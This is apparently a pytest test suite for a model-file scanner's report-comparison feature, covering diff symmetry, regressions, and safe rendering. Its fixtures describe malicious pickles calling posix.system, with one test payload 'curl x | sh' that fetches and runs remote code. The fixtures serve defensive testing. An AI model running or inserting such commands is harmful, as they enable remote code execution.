"""A comparison of two reports: nothing is guessed, the two directions agree, and what got worse is what fails."""

from __future__ import annotations

import sys
import time
from json import loads
from pathlib import Path

import jsonschema_rs
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

sys.path.append(str(Path(__file__).parents[1] / "reports"))

import generated
import samples

from scanner.catalog.schema import schemas
from scanner.comparing import words
from scanner.comparing.changes import Change, Diff, Difference, TargetDiff
from scanner.comparing.compare import compare
from scanner.comparing.paths import Paths
from scanner.comparing.words import word_changes
from scanner.model.artifact import Artifact
from scanner.model.codec import rebuilt
from scanner.model.description import DescribedFile, Description
from scanner.model.fact import Gap, fact
from scanner.model.finding import Finding
from scanner.model.place import Place
from scanner.model.record import altered
from scanner.model.report import Report, RuleInfo, TargetReport
from scanner.model.verdict import Verdict
from scanner.reports.changes import console, json, markdown

ONE, TWO = "1" * 64, "2" * 64
PUBLISHED = jsonschema_rs.Draft7Validator(loads(schemas()["diff.schema.json"]))
"""The schema of a comparison, as ``schemas/`` has it."""


def mirrored(diff: Diff) -> list[list[Change]]:
    """The changes of each target as the other direction has them, without what only one direction can say."""
    return [_sorted(map(_mirrored, target.changes)) for target in diff.targets]


def told(diff: Diff) -> list[list[Change]]:
    """The changes of each target, without what only one direction can say."""
    return [
        _sorted(altered(item, subject=_subject(item), worse=False, fingerprint="", path="") for item in target.changes)
        for target in diff.targets
    ]


def _subject(change: Change) -> str:
    """What a change is about, as far as the sides share it: one fingerprint under two names of rules has the newer one."""
    return "" if change.kind == "changed" and change.about in ("findings", "decisions") else change.subject


def _mirrored(change: Change) -> Change:
    kind = {"added": "removed", "removed": "added"}.get(change.kind, change.kind)
    rows = tuple(Difference(row.name, row.after, row.before) for row in change.differences)
    return altered(
        change,
        kind=kind,
        subject=_subject(change),
        before=change.after,
        after=change.before,
        differences=rows,
        worse=False,
        fingerprint="",
        path="",
    )


def _sorted(changes: object) -> list[Change]:
    return sorted(changes, key=repr)  # type: ignore[call-overload]


def reports_of(*targets: TargetReport, **fields: object) -> Report:
    return samples.report(*targets, **fields)


@given(generated.reports())
@settings(max_examples=60, deadline=None)
def test_a_report_and_itself_have_no_change(report: Report) -> None:
    diff = compare(report, report)
    assert not diff.settings
    assert {item.kind for target in diff.targets for item in target.changes} <= {"unknown"}
    assert diff.answer in ("same", "unknown", "incomplete")


@given(generated.reports(), generated.reports())
@settings(max_examples=100, deadline=None)
def test_the_other_direction_is_the_mirror(before: Report, after: Report) -> None:
    one, other = compare(before, after), compare(after, before)
    assert {(row.name, row.before, row.after) for row in one.settings} == {
        (row.name, row.after, row.before) for row in other.settings
    }
    pairs = {(target.before, target.after) for target in one.targets}
    assert pairs == {(target.after, target.before) for target in other.targets}
    if len(pairs) == len(one.targets):
        key = {(target.after, target.before): at for at, target in enumerate(other.targets)}
        order = [key[target.before, target.after] for target in one.targets]
        backwards = mirrored(other)
        assert told(one) == [backwards[at] for at in order]


@given(generated.reports(), generated.reports())
@settings(max_examples=40, deadline=None)
def test_every_output_takes_what_there_is_and_says_it_twice_alike(before: Report, after: Report) -> None:
    diff = compare(before, after)
    assert rebuilt(Diff, loads(json.render(diff))) == diff
    PUBLISHED.validate(loads(json.render(diff)))
    for output in (console, markdown, json):
        text = output.render(diff)
        assert text == output.render(diff)
        shown = text.decode()
        assert "\x1b" not in shown and "\u202e" not in shown and "##[" not in shown
        assert not any(line.lstrip().startswith("::") for line in shown.splitlines())


@given(st.text(max_size=80), st.text(max_size=80))
def test_words_that_changed_are_the_same_in_both_directions(one: str, other: str) -> None:
    rows = [(row.name, row.after, row.before) for row in word_changes(other, one)]
    assert [(row.name, row.before, row.after) for row in word_changes(one, other)] == rows


def test_one_word_of_a_text_is_told_with_what_stands_around_it() -> None:
    text = [f"w{n}" for n in range(30_000)]
    other = [*text]
    other[15_000:15_001] = ["not", "w15000"]
    (row,) = word_changes(" ".join(text), "\n".join(other))
    assert (row.before, row.after) == (
        "… w14996 w14997 w14998 w14999 w15000 w15001 w15002 w15003 …",
        "… w14996 w14997 w14998 w14999 not w15000 w15001 w15002 w15003 …",
    )


@given(st.lists(st.sampled_from("abcd"), max_size=40), st.lists(st.sampled_from("abcd"), max_size=40))
def test_what_stays_between_the_changes_is_the_same(old: list[str], new: list[str]) -> None:
    at, kept = 0, []
    places = words._places(old, new)
    assert places is not None
    for start, end, first, last in places:
        kept += [*old[at:start], *new[first:last]]
        at = end
    assert kept + old[at:] == new


def test_texts_made_to_be_slow_are_compared_in_time() -> None:
    started = time.monotonic()
    for one, other in (
        ("a b " * 100_000, "b a " * 100_000),
        ("a b " * 700 + "x", "b a c " * 450),
        ("a " * 10**6, "b " * 10**6),
    ):
        assert word_changes(one, other)
    assert time.monotonic() - started < 5


def _is_harmless(diff: Diff) -> None:
    """Nothing in the Markdown is more than words, code, lists and headings, and no forge finds a reference in it."""
    reading = pytest.importorskip("markdown_reading")
    page = markdown.render(diff).decode()
    allowed = {"heading", "paragraph", "bullet_list", "list_item", "inline", "text", "code_inline", "strong"}
    assert {kind.removesuffix("_open").removesuffix("_close") for kind in reading.kinds(page)} <= allowed


@settings(max_examples=60, deadline=None)
@given(generated.reports(), generated.reports())
def test_nothing_acts_in_any_page(before: Report, after: Report) -> None:
    _is_harmless(compare(before, after))


def side(*files: tuple[str, int, str], **fields: object) -> Report:
    """A report on one folder with these files (path, size, digest), all weights."""
    artifacts = tuple(
        Artifact(path, size, formats=("pickle",), role="weights", sha256=digest or None) for path, size, digest in files
    )
    return reports_of(samples.target("m", "pass", [], artifacts=artifacts, **fields))


def changes(before: Report, after: Report, **options: object) -> list[tuple[str, str, str]]:
    (target,) = compare(before, after, **options).targets  # type: ignore[arg-type]
    return [(item.about, item.kind, item.subject) for item in target.changes]


@pytest.mark.parametrize(
    ("before", "after", "expected"),
    [
        ((("a.bin", 5, ONE),), (("a.bin", 5, ONE),), []),
        ((("a.bin", 5, ONE),), (("a.bin", 5, TWO),), [("weights", "changed", "a.bin")]),
        ((("a.bin", 5, ""),), (("a.bin", 5, TWO),), [("weights", "unknown", "a.bin")]),
        ((("a.bin", 5, ""),), (("a.bin", 6, ""),), [("weights", "changed", "a.bin")]),
        ((("a.bin", 5, ONE),), (("sub/b.bin", 5, ONE),), [("weights", "moved", "a.bin")]),
        ((("a.bin", 0, ONE), ("x", 1, "")), (("b.bin", 0, ONE), ("x", 1, "")), None),
    ],
)
def test_a_file_changed_only_where_that_is_known(before: tuple, after: tuple, expected: list | None) -> None:
    found = changes(side(*before), side(*after))
    if expected is None:  # an empty file is no evidence of a move
        expected = [("weights", "removed", "a.bin"), ("weights", "added", "b.bin"), ("weights", "unknown", "x")]
        found = [item for item in found if item[1] != "changed"]
        assert sorted(found) == sorted(expected)
        return
    assert found == expected


def test_what_is_not_known_never_reads_as_nothing_changed() -> None:
    diff = compare(side(("a.bin", 5, "")), side(("a.bin", 5, "")))
    assert (diff.answer, diff.exit_code) == ("unknown", 0)
    gap = Gap("unreadable", Place("a.bin"), "It cannot be read: check its permissions.")
    holed = side(("a.bin", 5, ONE), gaps=(gap,))
    assert compare(holed, holed).answer == "incomplete" and compare(holed, holed).exit_code == 3
    assert compare(holed, holed, allow_incomplete=True).exit_code == 0
    assert "not fully scanned" in console.render(compare(holed, holed)).decode()
    assert ("gaps", "removed", "unreadable") in changes(holed, side(("a.bin", 5, ONE)))


def judged(found: Finding, outcome: str, by: str = "") -> tuple[Finding, Verdict]:
    return found, Verdict(found.fingerprint, outcome, by=by)


def evil(path: str = "x.pkl", arguments: str = "'id'", cause: str = "posix.system") -> Finding:
    attributes = (("callable", "posix.system"), ("arguments", arguments))
    return samples.finding(
        samples.PICKLE_RULE, Place(path), f"Loading calls posix.system({arguments})", cause=cause, attributes=attributes
    )


def on(*found: tuple[Finding, Verdict], answer: str = "fail", **fields: object) -> Report:
    return reports_of(samples.target("m", answer, [*found], **fields))


def test_only_what_got_worse_fails() -> None:
    known = on(judged(evil(), "deny"))
    assert compare(known, known).exit_code == 0
    more = on(judged(evil(), "deny"), judged(evil("y.pkl"), "deny"))
    assert (compare(known, more).answer, compare(known, more).exit_code) == ("worse", 1)
    assert compare(more, known).exit_code == 0 and compare(more, known).answer == "changed"
    assert compare(known, more, exit_zero=True).exit_code == 0


def test_a_new_review_fails_only_where_reviews_do() -> None:
    clean, one = on(answer="pass"), on(judged(evil(), "review"), answer="pass")
    assert compare(clean, one).exit_code == 0
    assert compare(clean, one, fail_on="review").exit_code == 1
    assert compare(one, on(judged(evil(), "deny"))).exit_code == 1


def test_another_payload_under_the_same_name_is_worse() -> None:
    diff = compare(on(judged(evil(), "deny")), on(judged(evil(arguments="'curl x | sh'"), "deny")))
    (change,) = diff.targets[0].changes
    assert (diff.exit_code, change.kind, change.worse) == (1, "changed", True)
    assert Difference("arguments", "'id'", "'curl x | sh'") in change.differences


def test_a_waiver_that_fell_is_worse_and_one_that_came_is_told() -> None:
    denied, waived = on(judged(evil(), "deny")), on(judged(evil(), "allow", "waiver"), answer="pass")
    fallen, come = compare(waived, denied), compare(denied, waived)
    assert [(item.about, item.worse) for item in fallen.targets[0].changes] == [("decisions", True)]
    assert (fallen.exit_code, come.exit_code) == (1, 0)
    assert [(item.about, item.kind) for item in come.targets[0].changes] == [("decisions", "changed")]


def test_a_finding_follows_its_file_and_its_rule() -> None:
    files = [(Artifact(name, 5, formats=("pickle",), role="weights", sha256=ONE),) for name in ("x.pkl", "data/y.pkl")]
    before = on(judged(evil(), "deny"), artifacts=files[0])
    after = on(judged(evil("data/y.pkl"), "deny"), artifacts=files[1])
    assert changes(before, after) == [("weights", "moved", "data/y.pkl")]
    assert compare(before, after).exit_code == 0


def test_what_stands_at_a_name_that_a_file_has_left_is_about_something_else() -> None:
    gap = Gap("missing", Place("new.bin"), "There is no such file.")
    before, after = side(("old.bin", 5, ONE), gaps=(gap,)), side(("new.bin", 5, ONE), gaps=(gap,))
    gaps = [("gaps", "added", "missing"), ("gaps", "removed", "missing")]
    for one, other in ((before, after), (after, before)):
        assert sorted(item for item in changes(one, other) if item[0] == "gaps") == gaps
    left = on(judged(evil("old.bin"), "deny"), artifacts=after.targets[0].artifacts)
    for one, other in ((before, left), (left, before)):
        (finding,) = (item for item in compare(one, other).targets[0].changes if item.about == "findings")
        assert not finding.in_same_file


@pytest.mark.skipif("aliases" not in RuleInfo.__match_args__, reason="rules have no old names yet")
def test_a_renamed_rule_is_no_new_finding() -> None:
    old = altered(evil(), rule="pickle-bad-call", fingerprint="0" * 32)
    rules = (altered(samples.PICKLE_RULE, aliases=("pickle-bad-call",)),)
    after = altered(on(judged(evil(), "deny")), rules=rules)
    before = altered(on(judged(old, "deny")), rules=(altered(samples.PICKLE_RULE, id="pickle-bad-call"),))
    assert compare(before, after).answer == "same" and compare(after, before).answer == "same"


def test_two_folders_of_one_repository_are_one_model() -> None:
    def folder(name: str) -> Report:
        files = (
            Artifact(f"models/{name}/x.pkl", 5, role="weights", sha256=ONE),
            Artifact(f"models/{name}/sub/y", 5, sha256=TWO),
        )
        found = samples.target(f"./{name}/", "fail", [judged(evil(f"models/{name}/x.pkl"), "deny")], artifacts=files)
        return reports_of(found)

    diff = compare(folder("v1"), folder("v2"))
    assert (diff.answer, diff.targets[0].changes) == ("same", ())


def test_the_name_of_a_folder_is_left_out_where_it_is_that_folder_alone() -> None:
    paths = Paths("v1/")
    said = "v1/a.bin names (v1/b.bin), not xv1/c nor up/v1/d; v1 ← acme/xv1 ← acme/v1"
    assert paths.without_root(said) == "a.bin names (b.bin), not xv1/c nor up/v1/d; this model ← acme/xv1 ← acme/v1"
    assert (paths.without_root("v1"), paths.told("v1/a"), paths.told("v10/a")) == ("", "a", "v10/a")


def test_targets_are_matched_by_name_whatever_their_revision() -> None:
    def hub(name: str, revision: str) -> TargetReport:
        return samples.target(f"hf://{name}@{revision}", "pass", [], source="hub", revision=revision)

    before = reports_of(hub("a/one", "1"), hub("a/two", "1"), hub("a/gone", "1"))
    after = reports_of(hub("A/two", "2"), hub("a/one", "3"), hub("a/new", "1"))
    pairs = [(target.before, target.after) for target in compare(before, after).targets]
    assert pairs == [
        ("hf://a/one@1", "hf://a/one@3"),
        ("hf://a/two@1", "hf://A/two@2"),
        ("hf://a/gone@1", ""),
        ("", "hf://a/new@1"),
    ]


def test_a_new_target_that_fails_is_worse() -> None:
    old = samples.target("a", "pass", [])
    new = samples.target("b", "fail", [judged(evil(), "deny")])
    assert compare(reports_of(old), reports_of(old, new)).exit_code == 1
    assert compare(reports_of(old, new), reports_of(old)).exit_code == 0


def test_one_commit_of_the_hub_is_the_same_without_digests() -> None:
    def at(revision: str) -> Report:
        files = (Artifact("model.bin", 5, role="weights"),)
        return reports_of(samples.target("hf://a/b", "pass", [], source="hub", revision=revision, artifacts=files))

    assert compare(at("1" * 40), at("1" * 40)).answer == "same"
    assert compare(at("1" * 40), at("2" * 40)).answer == "unknown"


def test_other_rules_or_another_policy_are_said_first() -> None:
    files = (Artifact("x.pkl", 5, formats=("pickle",), sha256=ONE),)
    before = on(answer="pass", artifacts=files)
    after = altered(on(judged(evil(), "deny"), artifacts=files), ruleset="ab" * 8, policy="strict")
    diff = compare(before, after)
    assert [row.name for row in diff.settings] == ["policy", "ruleset"]
    text = console.render(diff).decode()
    assert text.startswith("What judged differs")
    assert "the file is the same as before" in " ".join(text.split())


def test_a_described_file_out_of_scope_is_compared_too() -> None:
    def described(digest: str) -> Report:
        about = Description((DescribedFile("vocab.txt", 3, digest, kind="tokenizer"),))
        return reports_of(samples.target("m", "pass", [], description=about))

    assert changes(described(ONE), described(TWO)) == [("files", "changed", "vocab.txt")]


def test_what_pickles_call_is_told_with_the_file() -> None:
    def calling(*names: str) -> Report:
        facts = tuple(fact("pickle-call", Place("x.pkl", "data.pkl", 3), callable=name, use="call") for name in names)
        return on(answer="pass", facts=facts)

    diff = compare(calling("torch.a"), calling("torch.a", "builtins.eval"))
    (change,) = diff.targets[0].changes
    assert (change.about, change.kind, change.subject, change.differences) == (
        "code",
        "added",
        "builtins.eval",
        (Difference("called", "", "x.pkl"),),
    )


def test_hostile_names_are_shown_and_do_nothing() -> None:
    name = samples.ESCAPES + samples.MARKUP
    facts = (
        fact("pickle-call", Place(name), callable=name),
        fact("custom-code", Place(name), key=name, reference=name),
    )
    files = (Artifact(name, 3, role="weights", sha256=ONE),)
    found = samples.finding(samples.PICKLE_RULE, Place(name), name, attributes=((name, name),))
    after = on(judged(found, "deny"), facts=facts, artifacts=files, gaps=(Gap(name, Place(name), name),))
    diff = compare(on(answer="pass"), altered(after, policy=name), (name, name))
    for output in (console, markdown):
        text = output.render(diff).decode()
        assert "\x1b" not in text and "\u202e" not in text and "\u200b" not in text and "##[" not in text
        assert not any(line.lstrip().startswith("::") for line in text.splitlines())
    _is_harmless(diff)


def test_markdown_fits_a_comment_and_says_what_it_leaves_out() -> None:
    many = [judged(evil(f"{n}/{'x' * 100}.pkl"), "deny") for n in range(3_000)]
    page = markdown.render(compare(on(answer="pass"), on(*many)))
    assert len(page) <= markdown.LIMIT and b"more; " in page


def test_a_hundred_thousand_findings_take_seconds() -> None:
    found = [judged(evil(f"a/{n}.pkl"), "deny") for n in range(100_000)]
    before, after = on(*found[:90_000]), on(*found[10_000:])
    started = time.monotonic()
    diff = compare(before, after)
    for output in (console, markdown, json):
        output.render(diff)
    assert time.monotonic() - started < 20
    assert len(diff.targets[0].changes) == 20_000 and isinstance(diff.targets[0], TargetDiff)
